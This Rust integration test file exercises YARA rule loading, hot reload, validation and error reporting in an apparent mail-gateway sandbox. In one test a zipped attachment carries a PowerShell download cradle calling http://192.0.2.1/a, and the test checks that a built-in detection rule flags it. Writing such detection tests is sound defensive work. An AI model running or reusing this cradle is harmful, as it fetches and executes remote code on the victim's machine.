//! An admin's YARA rules, of a folder and of the settings: in force while the node runs, and not taken away by a mistake, neither at once nor by a start.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::fs;
use std::net::SocketAddr;
use std::path::Path;
use std::process::Command;
use std::time::Duration;

use postern_tests::backend::Backend;
use postern_tests::cluster::api::Api;
use postern_tests::documents::archive;
use postern_tests::gateway::{Gateway, binary, wait_until};
use postern_tests::network::{alone, lacking};
use postern_tests::smtp::{mail_with, send};
use serde_json::json;

const LIMIT: Duration = Duration::from_secs(20);

/// Without a folder of rules when it is empty.
fn settings(folder: &Path) -> String {
    format!(
        "[smtp]\nlisten = [\"127.0.0.1:2525\"]\ntrusted_listen = []\n[console]\nlisten = []\n[dns]\nenabled = false\n\
         [edge]\nallow = [\"127.0.0.0/8\"]\n[filter.bayes]\nenabled = false\n[sandbox]\nyara_rules = \"{}\"\n\
         [[domains]]\nname = \"example.net\"\nbackends = [{{ host = \"127.0.0.1\", port = 2524, tls = \"off\" }}]\n",
        folder.display()
    )
}

/// Evidences of the YARA symbols on a mail with this text in an archive.
fn found(gateway: &Gateway, subject: &str, text: &str) -> Vec<String> {
    let smtp: SocketAddr = "127.0.0.1:2525".parse().unwrap();
    let zip = archive(&[("notes.txt", format!("{text} {subject}").as_bytes())], None);
    let said = send(smtp, "anna@example.org", &["erika@example.net"], &mail_with(subject, "", &[("notes.zip", "application/zip", &zip)]));
    assert!(said.as_ref().unwrap().starts_with("250"), "{said:?}");
    let journey = gateway.journey(subject, LIMIT).unwrap();
    let steps = journey["steps"].as_array().unwrap();
    let apart = steps.iter().find(|step| step["event"] == "taken-apart");
    let findings = apart.map(|step| step["attachments"][0]["report"]["findings"].as_array().unwrap().clone()).unwrap_or_default();
    findings
        .iter()
        .filter(|f| f["name"].as_str().unwrap().starts_with("YARA"))
        .map(|f| format!("{} {}", f["name"].as_str().unwrap(), f["evidence"].as_str().unwrap()))
        .collect()
}

fn says(gateway: &Gateway, what: &str) {
    wait_until(what, LIMIT, || gateway.log().contains(what)).unwrap_or_else(|e| panic!("{e}: {}", gateway.log()));
}

#[test]
fn rules_of_a_folder_are_in_force_and_a_mistake_does_not_take_them_away() {
    if let Some(why) = lacking(&[]) {
        println!("skipped: {why}");
        return;
    }
    alone().unwrap();
    let scratch = tempfile::tempdir().unwrap();
    let (dir, rules) = (scratch.path().join("data"), scratch.path().join("rules"));
    let backend = Backend::smtp("127.0.0.1:2524".parse().unwrap()).unwrap();
    fs::create_dir(&rules).unwrap();
    fs::write(rules.join("company.yar"), "rule secret_word : info { strings: $a = \"xyzzy\" condition: $a }").unwrap();
    let sandbox = Gateway::sandbox(&binary(), &dir, &settings(&rules)).unwrap();
    let gateway = Gateway::node(&binary(), &dir, &settings(&rules)).unwrap();
    says(&gateway, "YARA rules are in force");
    let expected = "YARA_INFO company:secret_word [info], $a at 0";
    assert_eq!(found(&gateway, "First", "xyzzy"), [expected]);
    assert_eq!(found(&gateway, "Second", "nothing"), [] as [&str; 0]);
    // Ours are there beside them.
    let cradle = found(&gateway, "Third", "iex (new-object net.webclient).downloadstring('http://192.0.2.1/a')");
    assert!(cradle.len() == 1 && cradle[0].starts_with("YARA postern:powershell_cradle, "), "{cradle:?}");

    // A mistake: told with its place, and what was in force stays.
    fs::write(rules.join("more.yar"), "rule more : info {\n condition: $x\n}").unwrap();
    says(&gateway, "more.yar:2: error: unknown pattern");
    assert_eq!(found(&gateway, "Fourth", "xyzzy"), [expected]);
    let status = gateway.ask(&["sandbox", "status"]).unwrap();
    assert_eq!(status["rules"]["problems"][0]["file"], "more.yar", "{status}");
    let check = Command::new(binary()).args(["sandbox", "check-rules"]).arg(&rules).output().unwrap();
    let (said, why) = (String::from_utf8_lossy(&check.stdout), String::from_utf8_lossy(&check.stderr));
    assert!(!check.status.success() && said.contains("more.yar:2: error: ") && why.contains("1 errors"), "{said} {why}");

    // Both start anew over the mistake: the rules from before it are sent again.
    drop((gateway, sandbox));
    let sandbox = Gateway::sandbox(&binary(), &dir, &settings(&rules)).unwrap();
    let gateway = Gateway::again(&binary(), &dir).unwrap();
    assert_eq!(found(&gateway, "Fifth", "xyzzy"), [expected]);

    // Corrected, it is in force without a start; and the role may forget all, and is told again.
    let taken = || gateway.log().matches("YARA rules are in force").count();
    let before = taken();
    fs::write(rules.join("more.yar"), "rule more : info { strings: $x = \"plugh\" condition: $x }").unwrap();
    wait_until("the corrected rules", LIMIT, || taken() > before).unwrap();
    assert_eq!(found(&gateway, "Sixth", "plugh"), ["YARA_INFO more:more [info], $x at 0"]);
    drop(sandbox);
    let _sandbox = Gateway::sandbox(&binary(), &dir, &settings(&rules)).unwrap();
    assert_eq!(found(&gateway, "Seventh", "plugh"), ["YARA_INFO more:more [info], $x at 0"]);
    backend.wait_for(6, LIMIT).unwrap();
}

#[test]
fn rules_of_the_settings_are_in_force_on_each_change_and_an_error_in_them_is_told() {
    if let Some(why) = lacking(&[]) {
        println!("skipped: {why}");
        return;
    }
    alone().unwrap();
    let scratch = tempfile::tempdir().unwrap();
    let (dir, folder) = (scratch.path().join("data"), scratch.path().join("rules"));
    let backend = Backend::smtp("127.0.0.1:2524".parse().unwrap()).unwrap();
    let without = settings(Path::new(""));
    let sandbox = Gateway::sandbox(&binary(), &dir, &without).unwrap();
    let gateway = Gateway::node(&binary(), &dir, &without).unwrap();
    let api = Api::of(&dir);
    let (view, log) = (|| api.get("/sandbox/rules").unwrap(), || fs::read_to_string(dir.join("log")).unwrap());
    let in_force = |what: &str, files: u64, rules: u64| {
        let is_so =
            || (view()["files"].as_u64(), view()["rules"].as_u64(), view()["trouble"].is_null()) == (Some(files), Some(rules), true);
        wait_until(what, LIMIT, is_so).unwrap_or_else(|e| panic!("{e}: {} {}", view(), log()));
    };
    assert!(view()["enabled"] == true && view()["since"].is_null() && view()["files"] == 0, "{}", view());

    let waves = "rule wave : info {\n strings:\n  $a = \"xyzzy\"\n condition:\n  $a\n}\n";
    api.set("sandbox.rules", json!([{ "name": "waves", "text": waves }])).unwrap();
    in_force("the first rules", 1, 1);
    let expected = "YARA_INFO waves:wave [info], $a at 0";
    assert_eq!(found(&gateway, "First", "xyzzy"), [expected]);

    // A folder beside them is of the same set; a rule may be called the same in both, and even its file.
    fs::create_dir(&folder).unwrap();
    fs::write(folder.join("waves.yar"), "rule wave : info { strings: $b = \"plugh\" condition: $b }").unwrap();
    api.set("sandbox.yara_rules", json!(folder)).unwrap();
    in_force("both", 2, 2);
    assert_eq!(
        found(&gateway, "Second", "plugh xyzzy"),
        ["YARA_INFO waves:wave [info], $a at 6", "YARA_INFO waves.yar:wave [info], $b at 0"]
    );

    // Tried, and nothing comes of it.
    let broken = "rule wave : info {\n condition:\n  $x\n}\n";
    let tried = api.post("/sandbox/rules/try", &json!({ "rules": [{ "name": "waves", "text": broken }] })).unwrap();
    let (problem, error) = (&tried["problems"][0], json!({ "file": "waves", "line": 3, "severity": "error" }));
    assert_eq!(json!({ "file": problem["file"], "line": problem["line"], "severity": problem["severity"] }), error, "{tried}");
    assert!(tried["good"] == false && problem["text"].as_str().unwrap().contains("unknown pattern"), "{tried}");
    let tried = api.post("/sandbox/rules/try", &json!({ "rules": [{ "name": "others", "text": waves }] })).unwrap();
    assert_eq!(tried, json!({ "good": true, "rules": 1, "problems": [] }));
    let unfit = api.post("/sandbox/rules/try", &json!({ "rules": [{ "name": "a b", "text": waves }] })).unwrap_err().to_string();
    assert!(unfit.contains("rules[0].name"), "{unfit}");
    assert!(view()["trouble"].is_null() && view()["files"] == 2, "{}", view());

    // Set, it is told, by the command line and by an alert, and the rules before it stay; over a start, too.
    api.set("alerts.hold", json!("0s")).unwrap();
    api.set("sandbox.rules", json!([{ "name": "waves", "text": broken }])).unwrap();
    let refused = || {
        wait_until("the error to be told", LIMIT, || view()["trouble"]["problems"][0]["line"] == 3)
            .unwrap_or_else(|e| panic!("{e}: {} {}", view(), log()));
    };
    refused();
    assert_eq!(found(&gateway, "Third", "plugh xyzzy").len(), 2);
    let said = gateway.ask(&["sandbox", "rules"]).unwrap();
    assert!(said["trouble"]["waiting"] == false && said["files"] == 2 && said["rules"] == 2, "{said}");
    let alert = || gateway.ask(&["alerts"]).unwrap().to_string();
    wait_until("the alert", LIMIT, || alert().contains("yara-rules-refused")).unwrap_or_else(|e| panic!("{e}: {}", alert()));
    drop((gateway, sandbox));
    let sandbox = Gateway::sandbox_again(&binary(), &dir).unwrap();
    let gateway = Gateway::again(&binary(), &dir).unwrap();
    refused();
    assert!(view()["files"] == 2 && view()["rules"].is_null() && view()["since"].is_i64(), "{}", view());
    assert_eq!(found(&gateway, "Fourth", "plugh xyzzy").len(), 2);

    // Corrected; then all is taken back, and needs nobody for that.
    let others = "rule other : info { strings: $o = \"frotz\" condition: $o }";
    api.set("sandbox.rules", json!([{ "name": "others", "text": others }])).unwrap();
    in_force("the corrected rules", 2, 2);
    assert_eq!(found(&gateway, "Fifth", "frotz xyzzy"), ["YARA_INFO others:other [info], $o at 0"]);
    drop(sandbox);
    let away = api.post("/sandbox/rules/try", &json!({ "rules": [{ "name": "waves", "text": waves }] })).unwrap_err().to_string();
    assert!(away.contains("the role sandbox does not answer"), "{away}");
    api.set("sandbox.rules", json!([{ "name": "waves", "text": waves }])).unwrap();
    wait_until("it to wait for the role", LIMIT, || view()["trouble"]["waiting"] == true).unwrap();
    api.set("sandbox.yara_rules", json!("")).unwrap();
    api.set("sandbox.rules", json!([])).unwrap();
    wait_until("none to be in force", LIMIT, || view()["since"].is_null() && view()["trouble"].is_null()).unwrap();
    let _sandbox = Gateway::sandbox_again(&binary(), &dir).unwrap();
    assert_eq!(found(&gateway, "Sixth", "plugh xyzzy frotz"), [""; 0]);
    backend.wait_for(6, LIMIT).unwrap();
}
